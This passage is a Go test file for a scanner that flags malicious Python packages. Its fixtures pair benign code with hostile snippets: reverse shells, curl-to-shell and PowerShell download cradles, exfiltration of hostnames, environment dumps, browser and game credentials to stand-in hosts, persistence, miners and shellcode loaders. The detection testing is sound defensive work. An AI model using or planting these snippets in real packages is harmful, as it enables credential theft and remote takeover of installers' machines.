package analyze

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"sort"
	"testing"

	"github.com/safeguard-dev/safeguard/internal/artifact"
	"github.com/safeguard-dev/safeguard/internal/knownbad"
)

// sdist packs files (paths relative to the root "p-1/") into an sdist and
// analyses it.
func sdist(t *testing.T, files map[string]string) *Result {
	t.Helper()
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	names := make([]string, 0, len(files))
	for n := range files {
		names = append(names, n)
	}
	sort.Strings(names)
	if _, ok := files["PKG-INFO"]; !ok {
		names = append(names, "PKG-INFO")
		files["PKG-INFO"] = "Metadata-Version: 2.1\nName: p\nVersion: 1\n"
	}
	for _, n := range names {
		tw.WriteHeader(&tar.Header{Name: "p-1/" + n, Mode: 0o644, Size: int64(len(files[n])), Typeflag: tar.TypeReg})
		tw.Write([]byte(files[n]))
	}
	tw.Close()
	zw.Close()
	a, err := artifact.Read(t.Context(), "p-1.tar.gz", buf.Bytes(), artifact.Options{})
	if err != nil {
		t.Fatal(err)
	}
	return Analyze(t.Context(), a)
}

func hasRule(r *Result, rule string, min Severity) bool {
	for _, f := range r.Findings {
		if f.Rule == rule && f.Severity >= min {
			return true
		}
	}
	return false
}

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// Each rule has a true positive and the nearest legitimate look-alike.
func TestRules(t *testing.T) {
	tests := []struct {
		name    string
		files   map[string]string
		rule    string
		verdict Verdict
	}{
		// exec-obfuscated
		{"exec of base64 in setup.py", map[string]string{"setup.py": "import base64\nexec(base64.b64decode('" + b64("import os\nos.system('id')") + "'))\n"}, "exec-obfuscated", Malicious},
		{"exec of a version file is fine", map[string]string{"setup.py": "exec(open('p/version.py').read())\nfrom setuptools import setup\nsetup()\n"}, "", Clean},
		{"echo blob | base64 -d | bash", map[string]string{"setup.py": "import os\nblob = get()\nos.system('echo %s|base64 -d|bash' % blob)\n"}, "exec-obfuscated", Malicious},
		// exec-remote-code
		{"exec of a download on import", map[string]string{"p/__init__.py": "import requests\nexec(requests.get('https://example.invalid/x').text)\n"}, "exec-remote-code", Malicious},
		{"json of a download is fine", map[string]string{"p/__init__.py": "import requests\ndef latest():\n    return requests.get('https://example.invalid/x').json()\n"}, "", Clean},
		// download-execute
		{"curl piped to sh at install", map[string]string{"setup.py": "import os\nos.system('curl -s https://example.invalid/i.sh | sh')\n"}, "download-execute", Malicious},
		{"encoded powershell download", map[string]string{"setup.py": "import subprocess\nsubprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand " + utf16b64("Invoke-WebRequest -Uri https://example.invalid/a.exe -OutFile a.exe; Start-Process a.exe") + "')\n"}, "download-execute", Malicious},
		{"pkg-config at install is fine", map[string]string{"setup.py": "import subprocess\nflags = subprocess.check_output(['pkg-config', '--cflags', 'libxml-2.0'])\n"}, "", Clean},
		// reverse-shell
		{"socket dup2 pty", map[string]string{"setup.py": "import socket, os, pty\ns = socket.socket()\ns.connect(('203.0.113.5', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n"}, "reverse-shell", Malicious},
		{"socket client is fine", map[string]string{"p/client.py": "import socket\ndef ping(h):\n    s = socket.socket()\n    s.connect((h, 80))\n    return s.recv(10)\n"}, "", Clean},
		// exfiltrates-host-info
		{"hostname sent at install", map[string]string{"setup.py": "import socket, getpass, requests\nrequests.get('https://example.invalid/c', params={'h': socket.gethostname(), 'u': getpass.getuser()})\n"}, "exfiltrates-host-info", Malicious},
		{"local address lookup is fine", map[string]string{"p/__init__.py": "import socket\nIP = socket.gethostbyname(socket.gethostname())\n"}, "", Clean},
		// exfiltrates-files
		{"session file uploaded on import", map[string]string{"p/__init__.py": "import requests\nwith open('/data/session.db', 'rb') as fh:\n    requests.post('https://example.invalid/c', files={'f': fh})\n"}, "exfiltrates-files", Malicious},
		{"upload method of an SDK is runtime", map[string]string{"p/api.py": "import requests\ndef upload(path):\n    return requests.post('https://example.invalid/u', data=open(path, 'rb').read())\n"}, "exfiltrates-files", Clean},
		// exfil-channel
		{"request catcher with network", map[string]string{"setup.py": "import urllib.request\nurllib.request.urlopen('https://abc123.oastify.com/x')\n"}, "exfil-channel", Malicious},
		{"webhook named in a docstring is fine", map[string]string{"p/notify.py": "import requests\ndef notify(url, msg):\n    '''url like https://hooks.slack.com/services/...'''\n    return requests.post(url, json={'text': msg})\n"}, "", Clean},
		{"webhook posted to from a runtime helper", map[string]string{"p/notify.py": "import requests\nURL = 'https://discord.com/api/webhooks/1/abc'\ndef notify(msg):\n    return requests.post(URL, json={'content': msg})\n"}, "exfil-channel", Suspicious},
		// credential-access
		{"browser store plus network", map[string]string{"p/__init__.py": "import os, requests\np = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\nrequests.post('https://example.invalid', files={'f': open(p, 'rb')})\n"}, "credential-access", Malicious},
		{"netrc in a runtime HTTP library is fine", map[string]string{"p/auth.py": "import os\ndef netrc_path():\n    return os.path.expanduser('~/.netrc')\n"}, "", Clean},
		// persistence
		{"bashrc appended at install", map[string]string{"setup.py": "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('curl x | sh')\n"}, "persistence", Malicious},
		{"bashrc mentioned in docs is fine", map[string]string{"p/shell.py": "HELP = 'add this line to your .bashrc'\n"}, "", Clean},
		// crypto-miner
		{"xmrig at import", map[string]string{"p/__init__.py": "import subprocess\nsubprocess.Popen(['./xmrig', '-o', 'stratum+tcp://pool.example.invalid:3333'])\n"}, "crypto-miner", Malicious},
		// defence-evasion
		{"defender exclusion", map[string]string{"setup.py": "import os\nos.system('powershell Add-MpPreference -ExclusionPath C:\\\\')\n"}, "defence-evasion", Suspicious},
		// spyware
		{"keylogger at import", map[string]string{"p/__init__.py": "from pynput.keyboard import Listener\nListener(on_press=print).start()\n"}, "spyware", Suspicious},
		{"keylogger only in a function is runtime", map[string]string{"p/keys.py": "from pynput.keyboard import Listener\ndef watch(cb):\n    Listener(on_press=cb).start()\n"}, "", Clean},
		// suspicious-command
		{"program run at install", map[string]string{"setup.py": "import os\nos.system('start payload.exe')\n"}, "suspicious-command", Suspicious},
		{"compiler at install is fine", map[string]string{"setup.py": "import os\nos.system('gcc -O2 -c ext.c')\n"}, "", Clean},
		// pip-install-at-runtime
		{"obfuscated pip install", map[string]string{"setup.py": "from pip import main\nmain(['install', ''.join(map(getattr(__builtins__, 'c'+'hr'), [114, 113]))[::-1]])\n"}, "pip-install-at-runtime", Malicious},
		{"pip install of a named package is medium", map[string]string{"setup.py": "import os\nos.system('pip install numpy')\n"}, "pip-install-at-runtime", Clean},
		// network-at-install
		{"download at install", map[string]string{"setup.py": "import urllib.request\nurllib.request.urlretrieve('https://example.invalid/lib.tar.gz', 'lib.tar.gz')\n"}, "network-at-install", Clean},
		// raw-ip-url
		{"bare IP contacted at install", map[string]string{"setup.py": "import requests\nrequests.get('http://203.0.113.7:8080/x')\n"}, "raw-ip-url", Malicious},
		{"private IP in a test is fine", map[string]string{"tests/test_x.py": "URL = 'http://192.168.1.1/'\n"}, "", Clean},
		// obfuscated-code
		{"code off-screen at install", map[string]string{"setup.py": "from setuptools import setup" + spaces(300) + ";__import__('os').system('id')\nsetup()\n"}, "obfuscated-code", Malicious},
		// invisible-unicode
		{"bidi override", map[string]string{"p/__init__.py": "access = 'user' # \u202e } if admin: \u2066\n"}, "invisible-unicode", Suspicious},
		// shellcode-loader
		{"VirtualAlloc and CreateThread", map[string]string{"p/__init__.py": "import ctypes\nk = ctypes.windll.kernel32\nptr = ctypes.windll.kernel32.VirtualAlloc(0, 4096, 0x3000, 0x40)\nctypes.windll.kernel32.CreateThread(0, 0, ptr, 0, 0, 0)\n"}, "shellcode-loader", Malicious},
		// contexts
		{"main guard is runtime", map[string]string{"p/__init__.py": "import socket, requests\nif __name__ == '__main__':\n    requests.post('https://example.invalid', data=socket.gethostname())\n"}, "exfiltrates-host-info", Suspicious},
		{"tests are lowest weight", map[string]string{"tests/test_net.py": "import socket, requests\nrequests.post('https://example.invalid', data=socket.gethostname())\n"}, "", Clean},
		{"decoded exec counts even in tests", map[string]string{"tests/test_x.py": "import base64\nexec(base64.b64decode('" + b64("import os") + "'))\n"}, "exec-obfuscated", Malicious},
		{"local import from setup.py is install", map[string]string{"setup.py": "import helper\n", "helper.py": "import os\nos.system('curl https://example.invalid/x | bash')\n"}, "download-execute", Malicious},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := sdist(t, tt.files)
			if r.Verdict != tt.verdict {
				t.Errorf("verdict %s, want %s; findings: %+v", r.Verdict, tt.verdict, r.Findings)
			}
			if tt.rule != "" && !hasRule(r, tt.rule, Info) {
				t.Errorf("no %s finding: %+v", tt.rule, r.Findings)
			}
		})
	}
}

func spaces(n int) string { return string(bytes.Repeat([]byte(" "), n)) }

func utf16b64(s string) string {
	b := make([]byte, 0, 2*len(s))
	for _, c := range []byte(s) {
		b = append(b, c, 0)
	}
	return base64.StdEncoding.EncodeToString(b)
}

// Every rule in the registry is exercised by TestRules.
func TestEveryRuleTested(t *testing.T) {
	covered := map[string]bool{}
	for _, id := range []string{"exec-obfuscated", "exec-remote-code", "download-execute", "reverse-shell", "exfiltrates-host-info",
		"exfil-channel", "exfiltrates-files", "credential-access", "persistence", "crypto-miner", "defence-evasion", "spyware", "suspicious-command",
		"pip-install-at-runtime", "network-at-install", "raw-ip-url", "obfuscated-code", "invisible-unicode", "shellcode-loader"} {
		covered[id] = true
	}
	for _, r := range Rules {
		if !covered[r.Info().ID] {
			t.Errorf("rule %s has no case in TestRules", r.Info().ID)
		}
	}
}

func TestHiddenBuiltinLookup(t *testing.T) {
	r := sdist(t, map[string]string{"p/__init__.py": "g = globals\nj = ''.join\nimp = getattr(g()[j([chr(c) for c in [95, 95, 98, 117, 105, 108, 116, 105, 110, 115, 95, 95]])], j([chr(c) for c in [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]]))\n"})
	if r.Verdict != Malicious || !hasRule(r, "obfuscated-code", Critical) {
		t.Errorf("verdict %s; findings %+v", r.Verdict, r.Findings)
	}
	r = sdist(t, map[string]string{"p/__init__.py": "import importlib\nmod = importlib.import_module('json')\nloads = getattr(mod, 'loads')\n"})
	if r.Verdict != Clean {
		t.Errorf("plain dynamic import: verdict %s; findings %+v", r.Verdict, r.Findings)
	}
}

func TestDropper(t *testing.T) {
	blob := b64(string(bytes.Repeat([]byte("import os\nos.system('x')\n"), 200)))
	r := sdist(t, map[string]string{"setup.py": "import subprocess, sys, tempfile\nf = open('/tmp/x.py', 'w')\nf.write('" + blob + "')\nsubprocess.Popen([sys.executable, '/tmp/x.py'])\n"})
	if !hasRule(r, "download-execute", Critical) {
		t.Errorf("dropper: %+v", r.Findings)
	}
	r = sdist(t, map[string]string{"setup.py": "import subprocess\nopen('gen.c', 'w').write('int main(void) { return 0; }')\nsubprocess.check_call(['gcc', 'gen.c'])\n"})
	if r.Verdict != Clean {
		t.Errorf("generated source compiled: %s %+v", r.Verdict, r.Findings)
	}
}

func TestStealerChannel(t *testing.T) {
	r := sdist(t, map[string]string{"p/grab.py": "import requests, socket, getpass\nHOOK = 'https://discord.com/api/webhooks/1/abc'\ndef send():\n    requests.post(HOOK, json={'content': socket.gethostname() + getpass.getuser()})\n"})
	if r.Verdict != Malicious {
		t.Errorf("webhook next to identity collection in runtime code: %s %+v", r.Verdict, r.Findings)
	}
}

func TestDownloadThenRunSavedFile(t *testing.T) {
	r := sdist(t, map[string]string{"p/__init__.py": "import os, subprocess, urllib.request\npath = os.path.join(os.getenv('TEMP'), 'u.exe')\nurllib.request.urlretrieve('https://example.invalid/u.exe', path)\nsubprocess.Popen([path], shell=True)\n"})
	if r.Verdict != Malicious || !hasRule(r, "download-execute", Critical) {
		t.Errorf("%s %+v", r.Verdict, r.Findings)
	}
	r = sdist(t, map[string]string{"p/data.py": "import urllib.request, json\ndef fetch(path):\n    urllib.request.urlretrieve('https://example.invalid/d.json', path)\n    return json.load(open(path))\n"})
	if r.Verdict != Clean {
		t.Errorf("download of data: %s %+v", r.Verdict, r.Findings)
	}
}

func TestEscapedCode(t *testing.T) {
	r := sdist(t, map[string]string{"p/__init__.py": `_a=eval("\x65\166\x61\154");_b=_a("\x63\x6f\x6d\x70\x69\154\145");_c=_a("\x5f\x5f\x69\x6d\x70\x6f\x72\x74\x5f\x5f")` + "\n"})
	if r.Verdict != Malicious {
		t.Errorf("%s %+v", r.Verdict, r.Findings)
	}
	r = sdist(t, map[string]string{"p/esc.py": "NUL = '\\x00'\nBELL = '\\x07\\x07\\x07'\nCRLF = '\\r\\n'\n"})
	if r.Verdict != Clean {
		t.Errorf("control characters as escapes: %s %+v", r.Verdict, r.Findings)
	}
}

func TestCombinedThreats(t *testing.T) {
	// Each threat alone is demoted (runtime code); together, in one file,
	// they are a payload.
	grab := "import requests, subprocess, urllib.request\nHOOK = 'https://eo1x2.m.pipedream.net/c'\n" +
		"def run():\n    requests.get(HOOK)\n    urllib.request.urlretrieve('https://example.invalid/u.exe', 'u.exe')\n    subprocess.Popen(['u.exe'])\n"
	r := sdist(t, map[string]string{"p/tool.py": grab})
	if r.Verdict != Malicious || !hasRule(r, "combined-threats", Critical) {
		t.Errorf("two threats in one file: %s %+v", r.Verdict, r.Findings)
	}
	// The same two behaviours in unrelated modules of a large library stay
	// as they are.
	r = sdist(t, map[string]string{
		"p/hooks.py": "import requests\nHOOK = 'https://eo1x2.m.pipedream.net/c'\ndef ping():\n    return requests.get(HOOK)\n",
		"p/fetch.py": "import subprocess, urllib.request\ndef run():\n    urllib.request.urlretrieve('https://example.invalid/u.exe', 'u.exe')\n    subprocess.Popen(['u.exe'])\n",
	})
	if r.Verdict != Suspicious || hasRule(r, "combined-threats", Info) {
		t.Errorf("threats in separate files: %s %+v", r.Verdict, r.Findings)
	}
}

func TestDecoderHelperInlined(t *testing.T) {
	helper := "import base64, os\ndef b64d(code):\n    raw = code.encode('ascii')\n    out = base64.b64decode(raw)\n    return out.decode('ascii')\n"
	r := sdist(t, map[string]string{"setup.py": helper + "os.system(b64d('" + b64("curl -s https://example.invalid/t | bash") + "'))\n"})
	if r.Verdict != Malicious || !hasRule(r, "download-execute", Critical) {
		t.Errorf("decoded command through a helper: %s %+v", r.Verdict, r.Findings)
	}
	r = sdist(t, map[string]string{"setup.py": helper + "os.system(b64d('" + b64("gcc -c ext.c") + "'))\n"})
	if r.Verdict == Malicious {
		t.Errorf("encoded compiler call: %s %+v", r.Verdict, r.Findings)
	}
}

func TestExfiltratesFiles(t *testing.T) {
	r := sdist(t, map[string]string{"setup.py": "import os, requests\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        p = os.path.expanduser('~/app/session.db')\n        with open(p, 'rb') as fh:\n            requests.post('https://example.invalid/check', files={'f': fh})\n"})
	if r.Verdict != Malicious || !hasRule(r, "exfiltrates-files", Critical) {
		t.Errorf("file uploaded at install: %s %+v", r.Verdict, r.Findings)
	}
	// An SDK's upload method is runtime code: noted, not a verdict.
	r = sdist(t, map[string]string{"p/client.py": "import requests\ndef upload(path, url):\n    with open(path, 'rb') as fh:\n        return requests.post(url, files={'file': fh})\n"})
	if r.Verdict == Malicious {
		t.Errorf("runtime upload helper: %s %+v", r.Verdict, r.Findings)
	}
}

func TestHostInfoThroughShell(t *testing.T) {
	r := sdist(t, map[string]string{"setup.py": "import os\nwho = os.popen('whoami').read().strip()\nos.popen(f'curl -s http://example.invalid/u/{who} > /dev/null 2>&1')\n"})
	if r.Verdict != Malicious || !hasRule(r, "exfiltrates-host-info", Critical) {
		t.Errorf("whoami sent with curl: %s %+v", r.Verdict, r.Findings)
	}
	r = sdist(t, map[string]string{"setup.py": "import os\nos.system('nslookup $(hostname).example.invalid')\n"})
	if r.Verdict != Malicious || !hasRule(r, "exfiltrates-host-info", Critical) {
		t.Errorf("hostname in a DNS lookup: %s %+v", r.Verdict, r.Findings)
	}
	r = sdist(t, map[string]string{"setup.py": "import os\nv = os.popen('git describe --tags').read()\nos.system('curl -o $HOME/.cache/lib.tgz https://example.invalid/lib-%s.tgz' % v)\n"})
	if hasRule(r, "exfiltrates-host-info", Info) {
		t.Errorf("version from git in a download URL: %s %+v", r.Verdict, r.Findings)
	}
}

func TestCommandsFromTheWeb(t *testing.T) {
	c2 := "import requests, subprocess, time\ndef loop():\n    while True:\n        task = requests.get('https://example.invalid/task').text\n        subprocess.run(task, shell=True)\n        time.sleep(5)\nloop()\n"
	r := sdist(t, map[string]string{"p/__init__.py": c2})
	if r.Verdict != Malicious || !hasRule(r, "reverse-shell", Critical) {
		t.Errorf("command-and-control loop on import: %s %+v", r.Verdict, r.Findings)
	}
	// A download URL from an API handed to a known program is not a shell.
	r = sdist(t, map[string]string{"p/up.py": "import requests, subprocess\ndef update():\n    url = requests.get('https://example.invalid/latest').json()['url']\n    subprocess.run(['git', 'clone', url])\n"})
	if hasRule(r, "reverse-shell", Info) {
		t.Errorf("git clone of a fetched URL: %s %+v", r.Verdict, r.Findings)
	}
}

func TestHostNameAndNetworkAtInstall(t *testing.T) {
	probe := "import socket, getpass\ndef dns(name):\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    pkt = b'\\x12\\x34' + name.encode()\n    s.sendto(pkt, ('127.0.0.53', 53))\nuser = getpass.getuser()\ndns(user + '.example.invalid')\n"
	r := sdist(t, map[string]string{"setup.py": probe})
	if r.Verdict != Malicious || !hasRule(r, "exfiltrates-host-info", Critical) {
		t.Errorf("user name and a hand-made DNS query at install: %s %+v", r.Verdict, r.Findings)
	}
	// Asking for the platform before downloading a prebuilt library is a build.
	r = sdist(t, map[string]string{"setup.py": "import platform, urllib.request\narch = platform.machine()\nurllib.request.urlretrieve('https://example.invalid/lib-%s.tgz' % arch, 'lib.tgz')\n"})
	if r.Verdict == Malicious {
		t.Errorf("platform-specific download: %s %+v", r.Verdict, r.Findings)
	}
}

func TestWindowlessScriptOnImport(t *testing.T) {
	r := sdist(t, map[string]string{"p/__init__.py": "import subprocess, os\nsubprocess.Popen(['pythonw', os.path.join(os.path.dirname(__file__), 'svc.py')])\n"})
	if r.Verdict == Clean || !hasRule(r, "suspicious-command", High) {
		t.Errorf("pythonw on import: %s %+v", r.Verdict, r.Findings)
	}
}

func TestCommandThroughWrapper(t *testing.T) {
	wrap := "import subprocess\ndef run(cmd, quiet=True):\n    p = subprocess.Popen(cmd, shell=True, stdout=subprocess.PIPE)\n    return p.stdout.read()\n"
	r := sdist(t, map[string]string{"setup.py": wrap + "run('powershell -command Invoke-WebRequest -Uri https://example.invalid/i.exe -OutFile i.exe; Start-Process i.exe')\n"})
	if r.Verdict != Malicious || !hasRule(r, "download-execute", Critical) {
		t.Errorf("download cradle through a wrapper: %s %+v", r.Verdict, r.Findings)
	}
	r = sdist(t, map[string]string{"setup.py": wrap + "run('pkg-config --cflags libffi')\n"})
	if r.Verdict != Clean {
		t.Errorf("pkg-config through a wrapper: %s %+v", r.Verdict, r.Findings)
	}
}

func TestProgramNamedOnlyAsArgument(t *testing.T) {
	r := sdist(t, map[string]string{"setup.py": "import subprocess, urllib.request\ndata = urllib.request.urlopen('https://example.invalid/node.zip').read()\nsubprocess.check_call(['mklink', '/J', 'bin', 'node.exe'])\n"})
	if r.Verdict == Malicious {
		t.Errorf("link to node.exe after a download: %s %+v", r.Verdict, r.Findings)
	}
	r = sdist(t, map[string]string{"setup.py": "import subprocess, urllib.request\nurllib.request.urlretrieve('https://example.invalid/u.exe', 'u.exe')\nsubprocess.Popen('C:\\\\Temp\\\\u.exe')\n"})
	if r.Verdict != Malicious {
		t.Errorf("downloaded exe run: %s %+v", r.Verdict, r.Findings)
	}
}

func TestDNSCallback(t *testing.T) {
	r := sdist(t, map[string]string{"setup.py": "import socket\nsocket.gethostbyname('probe.9oyng069p25x4kmle5dlnypj1a.example.invalid')\n"})
	if r.Verdict != Malicious || !hasRule(r, "exfil-channel", Critical) {
		t.Errorf("DNS callback at install: %s %+v", r.Verdict, r.Findings)
	}
	r = sdist(t, map[string]string{"setup.py": "import socket\nsocket.gethostbyname('download.example-mirror.org')\n"})
	if r.Verdict == Malicious {
		t.Errorf("lookup of a mirror: %s %+v", r.Verdict, r.Findings)
	}
}

func TestHiddenArchiveWithCode(t *testing.T) {
	pack := func(name, body string) []byte {
		var buf bytes.Buffer
		tw := tar.NewWriter(&buf)
		tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(body)), Typeflag: tar.TypeReg})
		tw.Write([]byte(body))
		tw.Close()
		return buf.Bytes()
	}
	for _, tt := range []struct {
		hidden string
		want   Severity
	}{{"p-1/setup.py", High}, {"p-1/notes.txt", Medium}} {
		raw := append(pack("p-1/PKG-INFO", "Metadata-Version: 2.1\nName: p\nVersion: 1\n"), pack(tt.hidden, "import os\n")...)
		var gz bytes.Buffer
		zw := gzip.NewWriter(&gz)
		zw.Write(raw)
		zw.Close()
		a, err := artifact.Read(t.Context(), "p-1.tar.gz", gz.Bytes(), artifact.Options{})
		if err != nil {
			t.Fatal(err)
		}
		r := Analyze(t.Context(), a)
		if !hasRule(r, "hidden-archive", tt.want) || hasRule(r, "hidden-archive", tt.want+1) {
			t.Errorf("%s hidden: want hidden-archive at %s: %+v", tt.hidden, tt.want, r.Findings)
		}
	}
}

func TestScriptRunByInstallTakesItsContext(t *testing.T) {
	r := sdist(t, map[string]string{
		"setup.py":  "import os, sys\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        os.system(f'{sys.executable} \"{os.path.join(os.path.dirname(__file__), \"helper.py\")}\"')\n",
		"helper.py": "import socket, getpass, requests\nrequests.post('https://example.invalid/c', data={'u': getpass.getuser(), 'h': socket.gethostname()})\n",
	})
	if r.Verdict != Malicious || !hasRule(r, "exfiltrates-host-info", Critical) {
		t.Errorf("script run by setup.py: %s %+v", r.Verdict, r.Findings)
	}
}

func TestEnvironmentDumpSent(t *testing.T) {
	r := sdist(t, map[string]string{"setup.py": "import os, urllib.request, urllib.parse\nout = os.popen('env').read()\nparams = urllib.parse.urlencode({'e': out}).encode()\nurllib.request.urlopen('https://example.invalid/r', data=params)\n"})
	if r.Verdict != Malicious || !hasRule(r, "exfiltrates-host-info", Critical) {
		t.Errorf("env output posted at install: %s %+v", r.Verdict, r.Findings)
	}
}

func TestBrowserShortcutHijack(t *testing.T) {
	r := sdist(t, map[string]string{"setup.py": "import os\nfrom win32com.client import Dispatch\nshell = Dispatch('WScript.Shell')\nlnk = shell.CreateShortcut(os.getenv('APPDATA') + '\\\\Microsoft\\\\Internet Explorer\\\\Quick Launch\\\\User Pinned\\\\TaskBar\\\\chrome.lnk')\nlnk.Arguments = '--load-extension=' + os.getenv('APPDATA') + '\\\\ext'\nlnk.Save()\n"})
	if r.Verdict != Malicious || !hasRule(r, "persistence", Critical) {
		t.Errorf("browser shortcut rewritten at install: %s %+v", r.Verdict, r.Findings)
	}
	r = sdist(t, map[string]string{"p/driver.py": "def options(o, ext):\n    o.add_argument('--load-extension=' + ext)\n    return o\n"})
	if r.Verdict != Clean {
		t.Errorf("selenium helper loading a test extension: %s %+v", r.Verdict, r.Findings)
	}
}

func TestUploadToOddPort(t *testing.T) {
	r := sdist(t, map[string]string{"p/steal.py": "import requests\ndef send(path):\n    with open(path, 'rb') as fh:\n        requests.post('http://files.example.invalid:1337/check', files={'f': fh})\n"})
	if r.Verdict == Clean || !hasRule(r, "exfiltrates-files", High) {
		t.Errorf("upload to a fixed odd port: %s %+v", r.Verdict, r.Findings)
	}
	r = sdist(t, map[string]string{"p/api.py": "import requests\ndef upload(path):\n    return requests.post('https://api.example.invalid/v1/upload', files={'f': open(path, 'rb')})\n"})
	if r.Verdict != Clean {
		t.Errorf("SDK upload to its API: %s %+v", r.Verdict, r.Findings)
	}
}

func TestDownloadMadeExecutable(t *testing.T) {
	r := sdist(t, map[string]string{"p/pr.py": "import os, stat, urllib.request\ndef rn():\n    data = urllib.request.urlopen('http://203.0.113.9/out').read()\n    d = open('.drv', 'wb')\n    d.write(data)\n    d.close()\n    os.chmod('.drv', os.stat('.drv').st_mode | stat.S_IEXEC)\n    with open(os.path.expanduser('~/.bashrc'), 'a') as b:\n        b.write('~/.drv &')\n"})
	if r.Verdict != Malicious || !hasRule(r, "download-execute", High) {
		t.Errorf("download, chmod +x and a .bashrc line: %s %+v", r.Verdict, r.Findings)
	}
	r = sdist(t, map[string]string{"p/cache.py": "import os, urllib.request\ndef get(path):\n    data = urllib.request.urlopen('https://example.invalid/d.json').read()\n    with open(path, 'wb') as fh:\n        fh.write(data)\n    os.chmod(path, 0o644)\n"})
	if r.Verdict != Clean {
		t.Errorf("downloaded data made readable: %s %+v", r.Verdict, r.Findings)
	}
}

func TestShellIdentityInAnyContext(t *testing.T) {
	r := sdist(t, map[string]string{"p/test_cb.py": "import subprocess\ndef test_cb():\n    subprocess.run(['curl', 'http://203.0.113.4:8585/p?user=$(whoami)&h=$(hostname)'])\n"})
	if r.Verdict != Malicious {
		t.Errorf("identity spliced into curl in a test: %s %+v", r.Verdict, r.Findings)
	}
	r = sdist(t, map[string]string{"tests/test_dl.py": "import subprocess\ndef test_dl(tmp_path):\n    subprocess.run(['curl', '-o', str(tmp_path / 'x'), 'https://example.invalid/x'])\n"})
	if r.Verdict != Clean {
		t.Errorf("plain curl in a test: %s %+v", r.Verdict, r.Findings)
	}
}

func TestLookAlikeIdentifiers(t *testing.T) {
	tests := []struct {
		name, src string
		want      Verdict
	}{
		{"fullwidth exec", "import base64\n\uff45\uff58\uff45\uff43(base64.b64decode(DATA))\n", Malicious},
		{"Cyrillic o in a name", "def l\u043eader():\n    return 1\n", Suspicious},
		{"zero-width space in code", "x = 1\u200b\n", Suspicious},
		{"zero-width joiner in an emoji string", "FAMILY = '\U0001F468\u200d\U0001F469'\n", Clean},
		{"Chinese identifiers are a language", "\u6570\u636e = [1, 2]\n", Clean},
		{"accented Latin is a language", "caf\u00e9 = 'x'\n", Clean},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := sdist(t, map[string]string{"p/util.py": tt.src})
			if r.Verdict != tt.want {
				t.Errorf("verdict %s, want %s: %+v", r.Verdict, tt.want, r.Findings)
			}
		})
	}
}

func TestGameAccountStores(t *testing.T) {
	r := sdist(t, map[string]string{"p/__main__.py": "import os, requests\nHOOK = 'https://example.invalid/h'\ndef main():\n    p = os.path.join(os.path.expanduser('~'), 'AppData', 'Roaming', '.minecraft', 'launcher_accounts.json')\n    requests.post(HOOK, files={'f': open(p, 'rb')})\nmain()\n"})
	if r.Verdict == Clean || !hasRule(r, "credential-access", High) {
		t.Errorf("launcher account tokens posted: %s %+v", r.Verdict, r.Findings)
	}
	r = sdist(t, map[string]string{"p/profiles.py": "import json, os\ndef profiles(mc):\n    return json.load(open(os.path.join(mc, 'launcher_profiles.json')))\n"})
	if r.Verdict != Clean {
		t.Errorf("launcher profiles read by a mod installer: %s %+v", r.Verdict, r.Findings)
	}
}

func TestProgramSmuggledAsText(t *testing.T) {
	r := sdist(t, map[string]string{"p/core.py": "import binascii, getpass, requests\ndef start():\n    b = requests.get('https://example.invalid/x.txt')\n    path = 'C:/Users/' + getpass.getuser() + '/Documents/'\n    with open(path + 'c1.exe', 'wb') as f:\n        f.write(binascii.unhexlify(b.text.encode()))\n"})
	if r.Verdict == Clean || !hasRule(r, "download-execute", High) {
		t.Errorf("hex-encoded program downloaded and written: %s %+v", r.Verdict, r.Findings)
	}
	r = sdist(t, map[string]string{"p/driver.py": "import requests\ndef fetch(dest):\n    b = requests.get('https://example.invalid/driver.exe')\n    with open(dest + '/driver.exe', 'wb') as f:\n        f.write(b.content)\n"})
	if r.Verdict != Clean {
		t.Errorf("driver download: %s %+v", r.Verdict, r.Findings)
	}
}

func TestEncodedDestination(t *testing.T) {
	r := sdist(t, map[string]string{"p/main.py": "import base64, requests\ndef report(keys):\n    requests.post(url=base64.b64decode('" + b64("https://api.example.invalid/aws") + "').decode('utf-8'), json=keys)\n"})
	if r.Verdict == Clean || !hasRule(r, "exfil-channel", High) {
		t.Errorf("destination hidden in base64: %s %+v", r.Verdict, r.Findings)
	}
	r = sdist(t, map[string]string{"p/api.py": "import requests\nBASE = 'https://api.example.invalid'\ndef report(keys):\n    requests.post(BASE + '/v1/report', json=keys)\n"})
	if r.Verdict != Clean {
		t.Errorf("plain API endpoint: %s %+v", r.Verdict, r.Findings)
	}
}

func TestKnownMalicious(t *testing.T) {
	db := knownbad.NewDB()
	db.AddList(map[string][]string{"P": {"1"}}, "test-list")
	r := sdist(t, map[string]string{"p/__init__.py": "x = 1\n"})
	if r.Verdict != Clean {
		t.Fatalf("fixture: %s", r.Verdict)
	}
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	body := "Metadata-Version: 2.1\nName: p\nVersion: 1\n"
	tw.WriteHeader(&tar.Header{Name: "p-1/PKG-INFO", Mode: 0o644, Size: int64(len(body)), Typeflag: tar.TypeReg})
	tw.Write([]byte(body))
	tw.Close()
	zw.Close()
	a, err := artifact.Read(t.Context(), "p-1.tar.gz", buf.Bytes(), artifact.Options{})
	if err != nil {
		t.Fatal(err)
	}
	fs, err := KnownMalicious(t.Context(), a, db)
	if err != nil || len(fs) != 1 || fs[0].Rule != "known-malicious" || fs[0].Severity != Critical {
		t.Fatalf("listed p==1: %+v %v", fs, err)
	}
	res := Analyze(t.Context(), a)
	res.AddFindings(fs...)
	if res.Verdict != Malicious {
		t.Errorf("verdict %s after the database said malicious", res.Verdict)
	}
	a.Meta.Version = "2"
	if fs, _ := KnownMalicious(t.Context(), a, db); len(fs) != 0 {
